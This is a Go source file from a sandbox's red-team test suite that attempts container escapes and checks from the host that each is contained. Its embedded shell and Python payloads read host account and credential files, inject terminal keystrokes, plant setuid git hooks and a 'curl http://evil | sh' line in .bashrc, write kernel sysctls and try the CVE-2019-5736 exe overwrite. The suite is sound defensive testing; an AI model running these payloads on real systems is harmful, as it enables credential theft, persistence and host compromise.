package redteam

import (
	"bytes"
	"context"
	"crypto/sha256"
	"encoding/hex"
	"errors"
	"fmt"
	"net"
	"os"
	"path/filepath"
	"strings"
	"sync"
	"sync/atomic"

	"golang.org/x/sys/unix"

	"github.com/moat-sandbox/moat/engine"
	"github.com/moat-sandbox/moat/manifest"
	"github.com/moat-sandbox/moat/result"
)

// Filesystem, copy-io, proc-sys and runtime cases that need host-side
// state the declarative checks cannot express: the host's own account
// files, a fake home, a terminal, host files compared before and after, a
// descriptor the host leaks on purpose, the sandbox's cwd and root as the
// host's /proc shows them.
func registerFSCases() {
	register(Case{
		ID: "fs-host-account-files", Category: "filesystem", Severity: "critical",
		Threat:      "read the host's /etc/shadow, /etc/gshadow, /etc/passwd and /etc/group (password hashes, the host's users), directly and through /proc/1/root and /proc/self/root",
		Why:         "/etc is the image's; the host's files are not in the mount namespace. The host checks that no line of its own account files that the image lacks (the root: line of /etc/shadow among them) appears in the output",
		Unsandboxed: true,
		custom:      fsHostAccountFiles,
	})
	register(Case{
		ID: "fs-home-secrets", Category: "filesystem", Severity: "critical",
		Threat:      "read credentials from a home directory: ~/.ssh/id_ed25519 (0600), ~/.aws/credentials, ~/.kube/config, ~/.docker/config.json, ~/.netrc, ~/.git-credentials (a fake host home holds a canary in each), by host path, through /proc/1/root, under $HOME and under /root",
		Why:         "HOME is /workspace; the host's homes are not in the mount namespace, and a 0600 file would belong to a host uid the sandbox's ids never map to",
		Unsandboxed: true,
		custom:      fsHomeSecrets,
	})
	register(Case{
		ID: "fs-tiocsti-caller-tty", Category: "filesystem", Severity: "high",
		Threat:      "inject keystrokes into the caller's terminal with ioctl(TIOCSTI) on fds 0-2 or /dev/tty, when moat's own stdin is a terminal (the host hands the run a pty and watches its echo)",
		Why:         "the program's stdio are pipes the host copies (never the caller's terminal), /dev/tty is absent or opens only the program's own controlling terminal (a run has none: ENXIO), and seccomp answers TIOCSTI and TIOCLINUX with EPERM",
		Unsandboxed: true,
		custom:      fsTIOCSTI,
	})
	register(Case{
		ID: "fs-hooks-in-inputs", Category: "filesystem", Severity: "high",
		Threat:      "plant persistent hooks in an input that flows back out: .git/hooks/pre-commit (setuid), .git/config core.hooksPath and fsmonitor, .bashrc, .profile; and write them into the host's original input by its path",
		Why:         "inputs are copied, never mounted, so the host original cannot change; copy-out writes only into a fresh, empty output directory (never merged with the user's repository), strips setuid/setgid bits and copies no symlinks or special files. Plain files, executable bits included, are copied out by design: the output is data for the user to review",
		Unsandboxed: true,
		custom:      fsHooksInInputs,
	})
	register(Case{
		ID: "io-links-to-host-files", Category: "copy-io", Severity: "critical",
		Threat:      "make copy-out deliver a host file's content: symlinks and hardlinks in the workspace to the host canary and /etc/passwd (absolute, relative with ../, through /proc/self/root, a symlinked directory, a chain)",
		Why:         "the host canary does not exist inside, hardlinks cannot cross into the workspace tmpfs, and copy-out never follows or copies a symlink; the host reads every file copied out and finds no canary",
		Unsandboxed: true,
		custom:      ioLinksToHost,
	})
	register(Case{
		ID: "io-input-symlink-refused", Category: "copy-io", Severity: "critical",
		Threat: "hand the run an input holding a symlink that escapes it (-> /etc, -> the host canary, ../../etc, the chain d -> . with l -> d/.., a nested ../../..) or an input that is itself a symlink, so copy-in copies host files into the workspace",
		Why:    "copy-in resolves every symlink within its input the way the kernel would and refuses the whole request (engine.ErrUsage) before anything starts; the host checks the refusal and that the program never started",
		custom: ioInputSymlinkRefused,
	})
	register(Case{
		ID: "proc-host-paths", Category: "proc-sys", Severity: "medium",
		Threat:      "learn host paths from /proc/self/mountinfo, /proc/self/cgroup, /proc/1/cgroup, /proc/self/mounts and by listing /tmp and /run: the run's host cgroup and run directory (both named by the run id) and the host canary's directory",
		Why:         "the cgroup namespace roots /proc/self/cgroup at /, /tmp and /run are the sandbox's own. Known gap, not judged: mountinfo shows the image directory's host path (docs/THREATS.md)",
		Unsandboxed: true,
		custom:      procHostPaths,
	})
	register(Case{
		ID: "proc-sysctl-writes", Category: "proc-sys", Severity: "critical",
		Threat: "write host-global kernel settings: kernel.core_pattern (a pipe handler runs as host root), kernel.randomize_va_space, vm.overcommit_memory, kernel.sysrq, and /proc/sysrq-trigger",
		Why:    "/proc/sys and /proc/sysrq-trigger are bind-mounted read-only, the program is uid 1000 without capabilities; the host compares the real sysctl files before and after (and restores them if they changed)",
		custom: procSysctlWrites,
	})
	register(Case{
		ID: "rt-init-exe-overwrite", Category: "runtime", Severity: "critical",
		Threat: "reach the host moat binary through /proc/1/exe (init is a re-exec of moat) and overwrite it, keeping an O_PATH handle and reopening it for writing in a loop (CVE-2019-5736); overwrite the program's own /proc/self/exe",
		Why:    "init is not dumpable, so /proc/1/exe cannot be opened, read or resolved by uid 1000; the program's own binary is in the read-only image. The host hashes init's binary and moat's before and after",
		custom: rtInitExeOverwrite,
	})
	register(Case{
		ID: "rt-leaked-host-fd", Category: "runtime", Severity: "critical",
		Threat:      "use a file descriptor moat inherited from its caller without close-on-exec (the host opens the canary file and its directory without O_CLOEXEC before the run): read it, openat through it, list it (CVE-2024-21626 class)",
		Why:         "the program must start with fds 0-2 only: the host reads every sandbox process's /proc/<pid>/fd from outside and the canary must not appear in the output",
		Unsandboxed: true,
		custom:      rtLeakedHostFD,
		alone:       true, // the planted descriptors would reach concurrent runs too
	})
	register(Case{
		ID: "rt-cwd-in-root", Category: "runtime", Severity: "high",
		Threat:      "start with a working directory or root outside the sandbox (a host directory, as with a leaked cwd in CVE-2024-21626)",
		Why:         "init pivots into the image and starts the program in /workspace; the host compares, from outside, each program process's /proc/<pid>/cwd with its /proc/<pid>/root/workspace and its root with the image directory",
		Unsandboxed: true,
		custom:      rtCwdInRoot,
	})
	register(Case{
		ID: "rt-host-unix-sockets", Category: "runtime", Severity: "critical",
		Threat:      "connect to host unix sockets: a world-writable socket the host listens on (standing in for docker.sock, containerd, D-Bus), by path and through /proc/1/root, and a host abstract socket (containerd-shim, CVE-2020-15257); probe /run/docker.sock, /run/containerd, the D-Bus system bus, systemd and podman sockets",
		Why:         "host paths are not in the mount namespace and abstract sockets belong to the network namespace, which is the sandbox's own; the host's listeners accept nothing",
		Unsandboxed: true,
		custom:      rtHostUnixSockets,
	})
}

// pidWatch samples the sandbox's program processes (not Moat's init) from
// the host's /proc while the run lives and records the first finding.
type pidWatch struct {
	poller
	mu      sync.Mutex
	seen    int
	finding string
	inspect func(pid int) string // "" when the process is fine
	// runtime: the pids are a user-space kernel's host processes
	// (startRuntime), judged by inspectRuntime when set, else inspect.
	runtime        bool
	inspectRuntime func(pid int) string
}

// startRuntime watches the runtime's host processes on tiers where the
// program's are not host processes; start then does nothing.
func (w *pidWatch) startRuntime(procs func() ([]int, error)) {
	w.runtime = true
	if w.inspectRuntime != nil {
		w.inspect = w.inspectRuntime
	}
	w.sample(procs, nil, w.each)
}

func (w *pidWatch) start(_ string, procs func() ([]int, error)) {
	if w.runtime {
		return
	}
	w.sample(procs, nil, w.each)
}

func (w *pidWatch) each(pid int) {
	{
		cmdline, err := os.ReadFile(fmt.Sprintf("/proc/%d/cmdline", pid))
		if err != nil || len(cmdline) == 0 || bytes.HasPrefix(cmdline, []byte("moat-init\x00")) {
			return
		}
		f := w.inspect(pid)
		if f == "-" { // could not inspect (exiting): not a sample
			return
		}
		w.mu.Lock()
		defer w.mu.Unlock()
		w.seen++
		if w.finding == "" && f != "" {
			w.finding = fmt.Sprintf("pid %d (%s): %s", pid, clip(strings.Join(strings.Fields(strings.ReplaceAll(string(cmdline), "\x00", " ")), " "), 40), f)
		}
	}
}

// verdict: escaped with the finding, error when no program process was
// ever inspected, else contained.
func (w *pidWatch) verdict(ok string) (string, string) {
	w.mu.Lock()
	defer w.mu.Unlock()
	switch {
	case w.finding != "":
		return Escaped, "host /proc: " + w.finding
	case w.seen == 0:
		return Error, "the host never saw a program process (the program ended too fast to inspect: make it sleep)"
	case w.runtime:
		return Contained, fmt.Sprintf("%s (%d samples of the runtime's host processes, which stand for the program's: the Sentry's or the VMM's)", ok, w.seen)
	}
	return Contained, fmt.Sprintf("%s (%d samples)", ok, w.seen)
}

// imageRoot is the host directory of the default image's root.
func (r *runner) imageRoot() (string, error) {
	img, err := r.e.Images().Lookup(r.defaults().Image)
	if err != nil {
		return "", err
	}
	return img.Root, nil
}

func fsHostAccountFiles(ctx context.Context, r *runner) (string, string, int) {
	root, err := r.imageRoot()
	if err != nil {
		return Error, "image: " + err.Error(), 0
	}
	// The secrets are the lines of the host's files that the image's do
	// not have: those can only come from the host.
	type secret struct{ file, line string }
	var secrets []secret
	for _, f := range []string{"/etc/shadow", "/etc/gshadow", "/etc/passwd", "/etc/group"} {
		host, err := os.ReadFile(f)
		if err != nil {
			continue
		}
		img, _ := os.ReadFile(filepath.Join(root, f))
		have := map[string]bool{}
		for _, l := range strings.Split(string(img), "\n") {
			have[l] = true
		}
		for _, l := range strings.Split(string(host), "\n") {
			if len(l) >= 8 && !have[l] {
				secrets = append(secrets, secret{f, l})
			}
		}
	}
	if len(secrets) == 0 {
		return NotApplicable, "the host's account files hold no line the image lacks: nothing to detect", 0
	}
	c := &Case{ID: "fs-host-account-files", Sh: `
for f in /etc/shadow /etc/gshadow /etc/passwd /etc/group; do
  cat $f /proc/1/root$f /proc/self/root$f 2>&1
done
getent passwd; getent shadow 2>&1
grep -r '^root:' /etc 2>/dev/null | head -20
`}
	r.forGuests(c, wasmAccountFiles)
	v, ev := r.onceWith(ctx, c, hostHooks{check: func(en *env, res *result.Result) (string, string) {
		out := decode(res.Stdout) + "\n" + decode(res.Stderr)
		for i, s := range secrets {
			if strings.Contains(out, s.line) {
				// The evidence names the line, never its content.
				return Escaped, fmt.Sprintf("the output contains a line of the host's %s that the image lacks (host-only line %d, user %q)", s.file, i+1, strings.SplitN(s.line, ":", 2)[0])
			}
		}
		return Contained, fmt.Sprintf("none of the %d host-only lines of the host's account files appears", len(secrets))
	}})
	return v, ev, 1
}

func fsHomeSecrets(ctx context.Context, r *runner) (string, string, int) {
	home, err := os.MkdirTemp("", "moat-redteam-home-")
	if err != nil {
		return Error, "host setup: " + err.Error(), 0
	}
	defer os.RemoveAll(home)
	os.Chmod(home, 0o755)
	files := map[string]os.FileMode{
		".ssh/id_ed25519":        0o600,
		".ssh/id_rsa":            0o644, // careless
		".aws/credentials":       0o644,
		".kube/config":           0o644,
		".docker/config.json":    0o644,
		".netrc":                 0o600,
		".git-credentials":       0o644,
		".config/gcloud/ad.json": 0o644,
	}
	var canaries []string
	for f, mode := range files {
		p := filepath.Join(home, f)
		os.MkdirAll(filepath.Dir(p), 0o755)
		s := secret()
		if err := os.WriteFile(p, []byte("secret = "+s+"\n"), mode); err != nil {
			return Error, "host setup: " + err.Error(), 0
		}
		canaries = append(canaries, s)
	}
	os.Chmod(filepath.Join(home, ".ssh"), 0o700)
	c := &Case{ID: "fs-home-secrets", Sh: `
for f in .ssh/id_ed25519 .ssh/id_rsa .aws/credentials .kube/config .docker/config.json .netrc .git-credentials .config/gcloud/ad.json; do
  cat "{home}/$f" "/proc/1/root{home}/$f" "/proc/self/root{home}/$f" "$HOME/$f" 2>&1
done
ls -la /root /root/.ssh /root/.aws /home /home/* 2>&1 | head -40
find / -xdev \( -name 'id_*' -o -name credentials -o -name .netrc \) -print 2>/dev/null | head -20
`}
	r.forGuests(c, wasmHomeSecrets)
	v, ev := r.onceWith(ctx, c, hostHooks{
		prepare: func(en *env) error { en.vars["home"] = home; return nil },
		check: func(en *env, res *result.Result) (string, string) {
			out := decode(res.Stdout) + "\n" + decode(res.Stderr)
			for _, s := range canaries {
				if strings.Contains(out, s) {
					return Escaped, "the output contains a credential canary from the host home " + home
				}
			}
			return Contained, fmt.Sprintf("none of the %d home credential canaries appears", len(canaries))
		},
	})
	return v, ev, 1
}

// openPTY returns a new pseudo-terminal's master fd and its slave as a
// pollable file (so closing it ends the engine's stdin copy).
func openPTY() (int, *os.File, error) {
	m, err := unix.Open("/dev/ptmx", unix.O_RDWR|unix.O_NOCTTY|unix.O_CLOEXEC|unix.O_NONBLOCK, 0)
	if err != nil {
		return -1, nil, err
	}
	if err := unix.IoctlSetPointerInt(m, unix.TIOCSPTLCK, 0); err != nil {
		unix.Close(m)
		return -1, nil, err
	}
	n, err := unix.IoctlGetUint32(m, unix.TIOCGPTN)
	if err != nil {
		unix.Close(m)
		return -1, nil, err
	}
	s, err := os.OpenFile(fmt.Sprintf("/dev/pts/%d", n), os.O_RDWR|unix.O_NOCTTY, 0)
	if err != nil {
		unix.Close(m)
		return -1, nil, err
	}
	return m, s, nil
}

func fsTIOCSTI(ctx context.Context, r *runner) (string, string, int) {
	master, slave, err := openPTY()
	if err != nil {
		return NotApplicable, "cannot open a pseudo-terminal on the host: " + err.Error(), 0
	}
	defer unix.Close(master)
	defer slave.Close()
	token := "moatsti" + secret()[len("moat-canary-"):][:12]
	c := &Case{ID: "fs-tiocsti-caller-tty", Python: `
import fcntl, os, termios
tok = "{token}".encode()
def inject(name, fd):
    try:
        for ch in tok:
            fcntl.ioctl(fd, termios.TIOCSTI, bytes([ch]))
        print(name + ": ok")
    except OSError as e:
        print(name + ": denied", e.errno)
for fd in (0, 1, 2):
    inject("TIOCSTI fd %d" % fd, fd)
try:
    inject("TIOCSTI /dev/tty", os.open("/dev/tty", os.O_RDWR))
except OSError as e:
    print("/dev/tty: denied", e.errno)
`}
	v, ev := r.onceWith(ctx, c, hostHooks{
		prepare: func(en *env) error { en.vars["token"] = token; return nil },
		// As the CLI does when moat runs in a terminal: stdin is the tty.
		request: func(req *engine.Request) { req.Stdin = slave },
		check: func(en *env, res *result.Result) (string, string) {
			// Injected input is echoed to the terminal: the master reads it.
			var got []byte
			buf := make([]byte, 4096)
			for {
				n, err := unix.Read(master, buf)
				if n <= 0 || err != nil {
					break
				}
				got = append(got, buf[:n]...)
			}
			if bytes.Contains(got, []byte(token)) {
				return Escaped, "the program's keystrokes reached the caller's terminal input (TIOCSTI)"
			}
			return Contained, "nothing was injected into the caller's terminal"
		},
	})
	return v, ev, 1
}

func fsHooksInInputs(ctx context.Context, r *runner) (string, string, int) {
	c := &Case{ID: "fs-hooks-in-inputs", Sh: `
cd /workspace/in 2>/dev/null || cd in
mkdir -p .git/hooks .vscode
printf '#!/bin/sh\necho pwned\n' > .git/hooks/pre-commit; chmod 4755 .git/hooks/pre-commit
printf '#!/bin/sh\necho pwned\n' > .git/hooks/post-checkout; chmod 6755 .git/hooks/post-checkout
cp /bin/sh .git/hooks/sh-suid; chmod 4755 .git/hooks/sh-suid
printf '[core]\n\thooksPath = /tmp/hooks\n\tfsmonitor = /tmp/x\n' >> .git/config
echo 'curl http://evil | sh' >> .bashrc; chmod 4777 .bashrc
echo 'export PATH=/tmp/evil:$PATH' > .profile
echo '{"tasks": []}' > .vscode/tasks.json
# The host's original, by its path.
mkdir -p {input_dir}/.git/hooks 2>/dev/null
printf '#!/bin/sh\necho pwned\n' > {input_dir}/.git/hooks/pre-commit 2>/dev/null && chmod 4755 {input_dir}/.git/hooks/pre-commit
echo pwned >> {input_dir}/.bashrc 2>/dev/null
ls -laR /workspace 2>&1 | head -40
`,
		Setup: Setup{Output: true, Inputs: map[string]string{
			".git/HEAD":   "ref: refs/heads/main\n",
			".git/config": "[core]\n\tbare = false\n",
			"README.md":   "hello\n",
			".bashrc":     "# the user's\n",
		}},
		Expect: Expect{CopyOutSafe: true, Termination: []string{string(result.Exited)}},
	}
	var before string
	v, ev := r.onceWith(ctx, c, hostHooks{
		prepare: func(en *env) error {
			en.vars["input_dir"] = en.inputDir
			before = treeFingerprint(en.inputDir, "\x00")
			return nil
		},
		check: func(en *env, res *result.Result) (string, string) {
			if treeFingerprint(en.inputDir, "\x00") != before {
				return Escaped, "the host's original input changed (a hook or .bashrc was planted in it)"
			}
			return Contained, "the host's original input is unchanged"
		},
	})
	return v, ev, 1
}

func ioLinksToHost(ctx context.Context, r *runner) (string, string, int) {
	c := &Case{ID: "io-links-to-host-files", Sh: `
cd /workspace
ln -s {canary_path} sym-canary; ln -s /etc/passwd sym-passwd; ln -s "$(dirname {canary_path})" sym-dir
ln -s ../../../../../../../..{canary_path} sym-rel; ln -s /proc/self/root{canary_path} sym-proc
mkdir -p sub; ln -s ../sym-canary sub/chain; ln -s ../sym-dir/secret.txt sub/through-dir
ln {canary_path} hard-canary 2>&1; ln /proc/self/root{canary_path} hard-proc 2>&1; ln /etc/passwd hard-passwd 2>&1
ls -la /workspace /workspace/sub
`,
		Setup:  Setup{Canary: true, Output: true},
		Expect: Expect{OutputLacks: []string{"{canary}"}, CanaryIntact: true, CopyOutSafe: true},
	}
	r.forGuests(c, wasmLinksToHost)
	v, ev := r.onceWith(ctx, c, hostHooks{check: func(en *env, res *result.Result) (string, string) {
		var bad string
		n := 0
		filepath.Walk(en.outDir, func(p string, fi os.FileInfo, err error) error {
			if err != nil || bad != "" || !fi.Mode().IsRegular() {
				return nil
			}
			n++
			b, _ := os.ReadFile(p)
			if bytes.Contains(b, []byte(en.canary)) {
				rel, _ := filepath.Rel(en.outDir, p)
				bad = "copy-out delivered the host canary's content as " + rel
			}
			return nil
		})
		if bad != "" {
			return Escaped, bad
		}
		return Contained, fmt.Sprintf("none of the %d files copied out holds the canary", n)
	}})
	return v, ev, 1
}

func ioInputSymlinkRefused(ctx context.Context, r *runner) (string, string, int) {
	canaryDir, err := os.MkdirTemp("", "moat-redteam-canary-")
	if err != nil {
		return Error, "host setup: " + err.Error(), 0
	}
	defer os.RemoveAll(canaryDir)
	canary := secret()
	canaryPath := filepath.Join(canaryDir, "secret.txt")
	if err := os.WriteFile(canaryPath, []byte(canary+"\n"), 0o644); err != nil {
		return Error, "host setup: " + err.Error(), 0
	}
	type link struct{ name, target string }
	layouts := []struct {
		name  string
		links []link
		top   bool // the input itself is a symlink to a directory
	}{
		{name: "absolute /etc", links: []link{{"etc", "/etc"}}},
		{name: "absolute canary", links: []link{{"c", canaryPath}}},
		{name: "relative ../", links: []link{{"up", "../../../../../../etc"}}},
		{name: "chain d -> . and l -> d/..", links: []link{{"d", "."}, {"l", "d/.."}}},
		{name: "nested ../../..", links: []link{{"a/b/up", "../../.."}}},
		{name: "input is a symlink", top: true},
	}
	runs := 0
	for _, lay := range layouts {
		dir, err := os.MkdirTemp("", "moat-redteam-in-")
		if err != nil {
			return Error, "host setup: " + err.Error(), runs
		}
		src := dir
		os.WriteFile(filepath.Join(dir, "README"), []byte("hello\n"), 0o644)
		for _, l := range lay.links {
			p := filepath.Join(dir, l.name)
			os.MkdirAll(filepath.Dir(p), 0o755)
			if err := os.Symlink(l.target, p); err != nil {
				os.RemoveAll(dir)
				return Error, "host setup: " + err.Error(), runs
			}
		}
		if lay.top {
			src = filepath.Join(dir, "link")
			if err := os.Symlink(canaryDir, src); err != nil {
				os.RemoveAll(dir)
				return Error, "host setup: " + err.Error(), runs
			}
		}
		m := r.defaults()
		m.Inputs = []manifest.Input{{Src: src, Dst: "in"}}
		if err := m.Validate(); err != nil {
			os.RemoveAll(dir)
			return Error, "case manifest: " + err.Error(), runs
		}
		m.Tier = r.tier
		var started atomic.Bool
		argv := []string{"sh", "-c", "cat in/*/secret.txt in/*/shadow in/*/*/*/shadow in/secret.txt 2>&1; echo ran"}
		if r.guests != nil {
			argv = []string{"python3", "-c", wasmReadInputs}
		}
		res, err := r.exec(ctx, &engine.Request{Manifest: m,
			Argv:    argv,
			OnStart: func(string, func() ([]int, error)) { started.Store(true) }})
		os.RemoveAll(dir)
		runs++
		switch {
		case err == nil:
			out := decode(res.Stdout)
			if strings.Contains(out, canary) {
				return Escaped, fmt.Sprintf("%s: the input was accepted and the program read the host canary", lay.name), runs
			}
			return Escaped, fmt.Sprintf("%s: the input was accepted and the program ran", lay.name), runs
		case started.Load():
			return Escaped, fmt.Sprintf("%s: the program was started before the input was refused", lay.name), runs
		case !errors.Is(err, engine.ErrUsage):
			return Error, fmt.Sprintf("%s: refused, but not as a usage error: %v", lay.name, err), runs
		}
	}
	return Contained, fmt.Sprintf("all %d escaping inputs refused as usage errors before anything started", runs), runs
}

func procHostPaths(ctx context.Context, r *runner) (string, string, int) {
	c := &Case{ID: "proc-host-paths", Sh: `
cat /proc/self/mountinfo /proc/self/cgroup /proc/1/cgroup /proc/self/mounts 2>&1
cat /proc/1/mountinfo 2>&1 | head -80
ls -a /tmp /var/tmp /run 2>&1
ls -la / /proc/self/root/ /proc/1/cwd/ 2>&1
hostname; cat /proc/sys/kernel/hostname
`, Setup: Setup{Canary: true}, Expect: Expect{OutputLacks: []string{"{canary}"}}}
	r.forGuests(c, wasmHostPaths)
	var id atomic.Value
	v, ev := r.onceWith(ctx, c, hostHooks{
		onStart: func(rid string, _ func() ([]int, error)) { id.Store(rid) },
		check: func(en *env, res *result.Result) (string, string) {
			out := decode(res.Stdout) + "\n" + decode(res.Stderr)
			rid, _ := id.Load().(string)
			if rid == "" {
				return Error, "the run never started"
			}
			if strings.Contains(out, rid) {
				return Escaped, "the output names the run's id: a host cgroup or run directory path is visible"
			}
			if d := en.canaryDir; strings.Contains(out, filepath.Base(d)) {
				return Escaped, "the output shows the host canary directory " + d
			}
			return Contained, "no host cgroup, run directory or canary directory path in the output"
		},
	})
	return v, ev, 1
}

func procSysctlWrites(ctx context.Context, r *runner) (string, string, int) {
	files := []string{"/proc/sys/kernel/core_pattern", "/proc/sys/kernel/randomize_va_space", "/proc/sys/vm/overcommit_memory", "/proc/sys/kernel/sysrq"}
	c := &Case{ID: "proc-sysctl-writes", Python: `
import time
for name, path, value in [
    ("core_pattern", "/proc/sys/kernel/core_pattern", "|/workspace/pwn %p"),
    ("randomize_va_space", "/proc/sys/kernel/randomize_va_space", "0"),
    ("overcommit_memory", "/proc/sys/vm/overcommit_memory", "1"),
    ("sysrq", "/proc/sys/kernel/sysrq", "1"),
    ("sysrq-trigger", "/proc/sysrq-trigger", "h"),
]:
    try:
        with open(path, "w") as f:
            f.write(value)
        print(name + ": ok")
    except OSError as e:
        print(name + ": denied", e.errno)
time.sleep(0.2)
`, Expect: Expect{Denied: []string{"core_pattern", "randomize_va_space", "overcommit_memory", "sysrq", "sysrq-trigger"}, HostProcs: true}}
	before := map[string][]byte{}
	for _, f := range files {
		if b, err := os.ReadFile(f); err == nil {
			before[f] = b
		}
	}
	v, ev := r.onceWith(ctx, c, hostHooks{check: func(en *env, res *result.Result) (string, string) {
		var changed []string
		for f, b := range before {
			if now, err := os.ReadFile(f); err == nil && !bytes.Equal(now, b) {
				changed = append(changed, f)
				os.WriteFile(f, b, 0o644) // restore the host
			}
		}
		if len(changed) > 0 {
			return Escaped, "host sysctls changed (restored): " + strings.Join(changed, ", ")
		}
		return Contained, fmt.Sprintf("%d host sysctls unchanged", len(before))
	}})
	return v, ev, 1
}

func hashFile(p string) string {
	b, err := os.ReadFile(p)
	if err != nil {
		return "unreadable: " + err.Error()
	}
	s := sha256.Sum256(b)
	return hex.EncodeToString(s[:])
}

func rtInitExeOverwrite(ctx context.Context, r *runner) (string, string, int) {
	c := &Case{ID: "rt-init-exe-overwrite", Python: `
import os, time
def rep(name, f):
    try:
        print(name + ": ok " + repr(f())[:60])
    except OSError as e:
        print(name + ": denied", e.errno)
rep("open /proc/1/exe", lambda: os.close(os.open("/proc/1/exe", os.O_PATH)))
rep("read /proc/1/exe", lambda: open("/proc/1/exe", "rb").read(16))
rep("readlink /proc/1/exe", lambda: os.readlink("/proc/1/exe"))
# CVE-2019-5736: hold an O_PATH handle on every visible exe, then keep
# trying to reopen each for writing.
handles = []
for p in os.listdir("/proc"):
    if p.isdigit():
        try:
            handles.append(os.open("/proc/%s/exe" % p, os.O_PATH))
        except OSError:
            pass
wrote = []
deadline = time.time() + 0.5
while time.time() < deadline:
    for path in ["/proc/self/fd/%d" % h for h in handles] + ["/proc/1/exe", "/proc/self/exe"]:
        try:
            fd = os.open(path, os.O_WRONLY)
            os.write(fd, b"#")
            os.close(fd)
            wrote.append(path)
        except OSError:
            pass
    time.sleep(0.01)
print("overwrite an exe: " + ("ok " + str(sorted(set(wrote))) if wrote else "denied"))
`, Expect: Expect{Denied: []string{"open /proc/1/exe", "read /proc/1/exe", "readlink /proc/1/exe", "overwrite an exe"}, HostProcs: true}}
	moatExe, _ := os.Executable()
	moatBefore := hashFile(moatExe)
	var mu sync.Mutex
	inits := map[string]string{} // host path of init's binary -> hash before the program
	v, ev := r.onceWith(ctx, c, hostHooks{
		onStart: func(_ string, procs func() ([]int, error)) {
			pids, _ := procs()
			for _, pid := range pids {
				cmdline, _ := os.ReadFile(fmt.Sprintf("/proc/%d/cmdline", pid))
				if !bytes.HasPrefix(cmdline, []byte("moat-init\x00")) {
					continue
				}
				if p, err := os.Readlink(fmt.Sprintf("/proc/%d/exe", pid)); err == nil {
					mu.Lock()
					inits[p] = hashFile(p)
					mu.Unlock()
				}
			}
		},
		check: func(en *env, res *result.Result) (string, string) {
			if hashFile(moatExe) != moatBefore {
				return Escaped, "the host moat binary " + moatExe + " changed"
			}
			mu.Lock()
			defer mu.Unlock()
			for p, h := range inits {
				if hashFile(p) != h {
					return Escaped, "init's host binary " + p + " changed"
				}
			}
			what := "moat's binary unchanged"
			if len(inits) > 0 {
				what += "; init's binary unchanged"
			}
			return Contained, what
		},
	})
	return v, ev, 1
}

func rtLeakedHostFD(ctx context.Context, r *runner) (string, string, int) {
	c := &Case{ID: "rt-leaked-host-fd", Python: `
import os, time
for fd in range(3, 1024):
    try:
        target = os.readlink("/proc/self/fd/%d" % fd)
    except OSError:
        continue
    print("fd", fd, target)
    try:
        print("  read:", os.pread(fd, 200, 0))
    except OSError as e:
        print("  read:", e)
    try:
        print("  openat:", os.read(os.open("secret.txt", os.O_RDONLY, dir_fd=fd), 200))
    except OSError as e:
        print("  openat:", e)
    try:
        print("  reopen:", open("/proc/self/fd/%d/secret.txt" % fd).read())
    except OSError as e:
        print("  reopen:", e)
time.sleep(0.3)
`, Setup: Setup{Canary: true}, Expect: Expect{OutputLacks: []string{"{canary}"}}}
	var leaked []int
	defer func() {
		for _, fd := range leaked {
			unix.Close(fd)
		}
	}()
	w := &pidWatch{}
	defer w.stop()
	v, ev := r.onceWith(ctx, c, hostHooks{
		prepare: func(en *env) error {
			// No O_CLOEXEC, as a careless caller of moat would leave them.
			for _, p := range []struct {
				path  string
				flags int
			}{{en.vars["canary_path"], unix.O_RDONLY}, {en.canaryDir, unix.O_RDONLY | unix.O_DIRECTORY}} {
				fd, err := unix.Open(p.path, p.flags, 0)
				if err != nil {
					return err
				}
				leaked = append(leaked, fd)
			}
			w.inspect = func(pid int) string {
				ents, err := os.ReadDir(fmt.Sprintf("/proc/%d/fd", pid))
				if err != nil {
					return "-"
				}
				for _, e := range ents {
					t, _ := os.Readlink(fmt.Sprintf("/proc/%d/fd/%s", pid, e.Name()))
					if t == en.vars["canary_path"] || t == en.canaryDir {
						return fmt.Sprintf("holds fd %s -> %s, a descriptor of the host", e.Name(), t)
					}
				}
				return ""
			}
			return nil
		},
		onStart: w.start,
		// The runtime's processes must not hold them either (they would
		// serve them to the program): the same inspection.
		onRuntime: w.startRuntime,
		check: func(en *env, res *result.Result) (string, string) {
			w.stop()
			return w.verdict("no sandbox process held the host's descriptors")
		},
	})
	return v, ev, 1
}

func rtCwdInRoot(ctx context.Context, r *runner) (string, string, int) {
	root, err := r.imageRoot()
	if err != nil {
		return Error, "image: " + err.Error(), 0
	}
	var rst unix.Stat_t
	if err := unix.Stat(root, &rst); err != nil {
		return Error, "image: " + err.Error(), 0
	}
	c := &Case{ID: "rt-cwd-in-root", Python: `
import os, time
print(os.getcwd(), os.readlink("/proc/self/cwd"), os.readlink("/proc/self/root"))
time.sleep(0.3)
`}
	same := func(a, b *unix.Stat_t) bool { return a.Dev == b.Dev && a.Ino == b.Ino }
	w := &pidWatch{inspect: func(pid int) string {
		var cwd, pr, ws unix.Stat_t
		if unix.Stat(fmt.Sprintf("/proc/%d/cwd", pid), &cwd) != nil ||
			unix.Stat(fmt.Sprintf("/proc/%d/root", pid), &pr) != nil {
			return "-"
		}
		if !same(&pr, &rst) {
			t, _ := os.Readlink(fmt.Sprintf("/proc/%d/root", pid))
			return fmt.Sprintf("its root (%s) is not the image directory", t)
		}
		if unix.Stat(fmt.Sprintf("/proc/%d/root/workspace", pid), &ws) != nil {
			return "-"
		}
		if !same(&cwd, &ws) {
			t, _ := os.Readlink(fmt.Sprintf("/proc/%d/cwd", pid))
			return fmt.Sprintf("its cwd (%s) is not its /workspace", t)
		}
		return ""
	}}
	// On a user-space kernel's tier the program's root and cwd are the
	// Sentry's business; the host evidence is that every runtime process
	// is confined to a root that is not the host's, with its cwd there
	// (the Sentry chroots into an empty directory, the gofer into the
	// image), so no host directory is reachable by a relative path.
	var hostRoot unix.Stat_t
	if err := unix.Stat("/", &hostRoot); err != nil {
		return Error, "stat /: " + err.Error(), 0
	}
	w.inspectRuntime = func(pid int) string {
		var cwd, pr unix.Stat_t
		if unix.Stat(fmt.Sprintf("/proc/%d/cwd", pid), &cwd) != nil ||
			unix.Stat(fmt.Sprintf("/proc/%d/root", pid), &pr) != nil {
			return "-"
		}
		if same(&pr, &hostRoot) {
			return "its root is the host's /"
		}
		if !same(&cwd, &pr) {
			t, _ := os.Readlink(fmt.Sprintf("/proc/%d/cwd", pid))
			return fmt.Sprintf("its cwd (%s) is not its root", t)
		}
		return ""
	}
	defer w.stop()
	v, ev := r.onceWith(ctx, c, hostHooks{
		onStart:   w.start,
		onRuntime: w.startRuntime,
		check: func(en *env, res *result.Result) (string, string) {
			w.stop()
			if w.runtime {
				return w.verdict("every runtime process has a root other than the host's and its cwd at that root")
			}
			return w.verdict("every program process has the image as root and /workspace as cwd")
		},
	})
	return v, ev, 1
}

